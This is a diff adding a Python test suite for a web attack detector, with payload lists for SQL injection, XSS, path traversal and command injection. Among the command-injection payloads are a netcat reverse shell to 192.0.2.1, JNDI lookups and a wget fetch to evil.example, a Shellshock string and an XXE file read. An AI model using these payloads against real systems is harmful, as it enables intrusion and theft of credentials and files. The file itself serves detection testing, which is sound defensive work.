@@ -1,0 +1,165 @@
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from detectors.security.payloads import EXCERPT, LONGEST, inspect, inspect_headers
+from detectors.security.rules import RULES
+from detectors.security.signatures import matching, span
+
+ATTACKS = {
+    "sqli": [
+        "/item?id=1'+or+'1'='1",
+        "/item?id=1%20or%201=1--",
+        "/item?id=1+un/**/ion+select+1,2,password+from+users",
+        "/item?id=1%2520union%2520all%2520select%2520null,null",
+        "/item?name=admin'--",
+        "/item?id=1;drop+table+users",
+        "/item?id=1+and+sleep(5)",
+        "/item?id=(select+table_name+from+information_schema.tables)",
+        "/item?id=1;waitfor+delay+'0:0:5'",
+    ],
+    "xss": [
+        "/?q=<script>alert(1)</script>",
+        "/?q=%3Cimg+src=x+onerror=alert(1)%3E",
+        "/?q=%253Csvg/onload=alert(1)%253E",
+        "/?u=java%0ascript:alert(1)",
+        "/?q=\"+onmouseover=\"alert(document.cookie)",
+        "/?q=%26%2360;iframe+src=//evil.example%26gt;",
+        "/?q=%uff1cscript%uff1ealert(1)",
+        "/<script>alert(1)</script>",
+    ],
+    "traversal": [
+        "/../../../etc/passwd",
+        "/?f=..%2f..%2f..%2fetc%2fpasswd",
+        "/?f=..%c0%af..%c0%afwindows%c0%afwin.ini",
+        "/?f=/etc/shadow",
+        "/?f=c:\\windows\\system32\\drivers\\etc\\hosts",
+        "/?f=file:///proc/self/environ",
+        "/?f=.htpasswd",
+        "/.git/config",
+    ],
+    "command": [
+        "/?h=127.0.0.1;cat+/etc/hostname",
+        "/?h=$(whoami)",
+        "/?h=`id`",
+        "/?h=a|nc+-e+/bin/sh+192.0.2.1+4444",
+        "/?x=${jndi:ldap://evil.example/a}",
+        "/?x=${${lower:j}ndi:rmi://evil.example}",
+        "/?x=()+{+:;};+/bin/bash+-c+id",
+        "/?x=;wget+http://evil.example/x.sh",
+    ],
+}  # fmt: skip
+
+HARMLESS = [
+    "/search?q=red+shoes+and+blue+socks",
+    "/search?q=O'Brien",
+    "/search?q=select+a+plan+from+the+list",
+    "/a?title=Clothing,+Shoes+%26+more",
+    "/a?next=%2Fcart%3Fitem%3D3%26size%3D2",
+    "/a?fields=name|id|title",
+    "/a?callback=jQuery1234_5678&_=1",
+    "/static/js/jquery.min.js?ver=3.6.0",
+    "/a?when=2026-01-01T12:00:00%2B01:00",
+    "/a?data=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3A%22x%22%7D",
+    "/a?version=javascript:3.2.2",
+]
+
+
+@pytest.mark.parametrize(("family", "path"), [(family, path) for family, paths in ATTACKS.items() for path in paths])
+def test_an_attack_in_a_path_is_evidence_of_its_family(family: str, path: str) -> None:
+    assert [piece.family for piece in inspect("path", path.encode())] == [family]
+
+
+@pytest.mark.parametrize("path", HARMLESS)
+def test_harmless_paths_are_no_evidence(path: str) -> None:
+    assert inspect("path", path.encode()) == []
+
+
+def test_the_evidence_says_where_it_stood_and_what_it_was() -> None:
+    (piece,) = inspect("path", b"/item?id=7&name=x%27%20UNION%20SELECT%20password%20FROM%20users")
+    assert (piece.family, piece.rule, piece.field) == ("sqli", "union select", "path name")
+    assert "union select password from users" in piece.excerpt
+
+
+@pytest.mark.parametrize(
+    ("field", "raw", "where"),
+    [
+        ("agent", b"() { :;}; /bin/bash -c id", "agent"),
+        ("referer", b"https://a.example/?q=<script>alert(1)</script>", "referer"),
+        ("user", b"admin' or '1'='1", "user"),
+        ("body", b"name=x&comment=<script>alert(1)</script>", "body comment"),
+        ("body", b'{"user": {"name": ["a", "\\u003cscript>alert(1)"]}}', "body name"),
+        ("body", b'{"<script>": 1}', "body <script>"),
+        ("body", b'{"broken": "<script>alert(1)', "body"),
+        ("body", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "body"),
+    ],
+)
+def test_every_field_is_looked_at(field: str, raw: bytes, where: str) -> None:
+    assert [piece.field for piece in inspect(field, raw)] == [where]
+
+
+def test_header_fields_and_cookies_are_looked_at_but_not_the_usual_ones() -> None:
+    headers = {"X-Api": "${jndi:ldap://a}", "Cookie": "a=1; b=' or '1'='1", "Accept": "${jndi:ldap://a}"}
+    assert [(p.family, p.field) for p in inspect_headers(headers)] == [
+        ("command", "header x-api"),
+        ("sqli", "header cookie"),
+    ]
+
+
+def test_one_value_is_one_piece_of_evidence_whatever_it_matches() -> None:
+    assert len(inspect("path", b"/?x=;cat%20/etc/passwd%20|%20sh")) == 1
+
+
+@given(
+    field=st.sampled_from(["path", "agent", "body"]),
+    raw=st.binary(max_size=80) | st.text(alphabet="?&=%+{[\"'<>/*\\\x00;()ax1 é", max_size=60).map(str.encode),
+)
+def test_no_bytes_break_it_and_no_excerpt_is_long(field: str, raw: bytes) -> None:
+    for piece in inspect(field, raw):
+        assert len(piece.excerpt) <= EXCERPT
+        assert piece.excerpt.isprintable()
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        b"/?q=" + b"a" * 1_000_000,
+        b"/?q=" + b"(a+)+" * 20_000 + b"!",
+        b"/?" + b"&" * 200_000,
+        b"/?q=" + b"<" * 100_000,
+        b"/?q=" + b"' or " * 20_000,
+        b"/" + b"\xed\xa0\x80\x00" * 10_000,
+        b"/?q=" + b"%" * 100_000,
+    ],
+)
+def test_large_and_wicked_texts_are_no_trouble(raw: bytes) -> None:
+    inspect("path", raw)
+    inspect("body", raw)
+
+
+@pytest.mark.parametrize("raw", [b"[" * 100_000, b'{"a":' * 50_000, b"[" + b'"a",' * 100_000 + b'"<script>"]'])
+def test_deep_and_wide_json_is_no_trouble(raw: bytes) -> None:
+    inspect("body", raw)
+
+
+def test_parameters_beyond_the_most_are_looked_at_together() -> None:
+    raw = b"/?" + b"&".join(b"a%d=1" % n for n in range(400)) + b"&z=<script>alert(1)</script>"
+    assert [piece.family for piece in inspect("path", raw)] == ["xss"]
+
+
+def test_what_stands_behind_the_longest_part_is_not_looked_at() -> None:
+    assert inspect("body", b" " * LONGEST + b"<script>") == []
+
+
+def test_names_of_rules_are_unique_and_say_their_family() -> None:
+    assert len({(rule.family, rule.name) for rule in RULES}) == len(RULES)
+    assert {rule.family for rule in RULES} == set(ATTACKS)
+
+
+def test_all_rules_together_find_what_each_finds_alone() -> None:
+    for paths in ATTACKS.values():
+        for text in paths:
+            low = text.lower()
+            for rule in matching(low):
+                start, end = span(rule, low.encode())
+                assert 0 <= start < end <= len(low.encode())
